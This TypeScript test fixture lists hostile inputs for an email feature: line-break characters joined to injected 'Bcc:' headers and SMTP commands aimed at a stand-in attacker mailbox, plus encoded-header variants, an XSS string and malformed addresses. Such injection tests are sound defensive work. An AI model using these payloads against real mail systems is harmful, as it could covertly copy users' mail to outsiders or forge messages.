/** Somebody else's mailbox: whatever reaches it was smuggled. */
const STRANGER = "evil@attacker.test";

/** Texts that break out of a header or a command when they are pasted into one. */
const BREAKS = [
  "\r\n",
  "\n",
  "\r",
  "\0",
  "\u2028",
  "\u2029",
  "\u0085",
  "\v",
  "\f",
  "\r\n\t",
  "%0d%0a",
];

const payloads = (line: string): string[] => [
  `x${line}Bcc: ${STRANGER}`,
  `x${line}RCPT TO:<${STRANGER}>`,
  `x${line}.${line}MAIL FROM:<a@b.test>${line}RCPT TO:<${STRANGER}>${line}DATA${line}Subject: no${line}${line}no`,
  `${line}${line}<b>a body of my own</b>`,
];

const ENCODED = [
  "=?UTF-8?Q?x=0D=0ABcc:_evil=40attacker.test?=",
  `=?UTF-8?B?${Buffer.from(`x\r\nBcc: ${STRANGER}`).toString("base64")}?=`,
  "=?UTF-8?Q?unfinished",
  "x".repeat(2_000),
  "ü".repeat(900),
  `${"x".repeat(997)}\r\nBcc: ${STRANGER}`,
  '"><script>alert(1)</script>',
  ".\r\n",
  "..",
  "\uD800",
];

/** What a person can call himself, or a provider an invoice. */
export const TEXTS: readonly string[] = [...BREAKS.flatMap(payloads), ...ENCODED];

const LONG_LOCAL = "l".repeat(65);
const LONG_DOMAIN = `${"d".repeat(63)}.`.repeat(4);

/** What somebody can give as his address. */
export const ADDRESSES: readonly string[] = [
  ...BREAKS.flatMap((line) => [
    `a@b.test${line}RCPT TO:<${STRANGER}>`,
    `a@b.test>${line}RCPT TO:<${STRANGER}`,
    `a${line}@b.test`,
    `a@b.test${line}Bcc: ${STRANGER}`,
  ]),
  `a@b.test, ${STRANGER}`,
  `a@b.test; ${STRANGER}`,
  `a@b.test> RCPT TO:<${STRANGER}`,
  `"a@b.test> RCPT TO:<${STRANGER}"@b.test`,
  `"x\r\nRCPT TO:<${STRANGER}>"@b.test`,
  `"quoted local"@b.test`,
  `group: a@b.test, ${STRANGER};`,
  `a@b.test (${STRANGER})`,
  `<a@b.test>${STRANGER}`,
  "ü@b.test",
  "a@bücher.test",
  "a@xn--bcher-kva.test",
  "a@b。test",
  `a@evil\u2024test`,
  `${LONG_LOCAL}@b.test`,
  `a@${LONG_DOMAIN}test`,
  "=?UTF-8?Q?a=40b.test?=",
  "@b.test",
  "a@",
  "",
  "a@[127.0.0.1]",
  "a@b.test SIZE=1",
  "a@b.test> NOTIFY=NEVER ORCPT=rfc822;x",
];
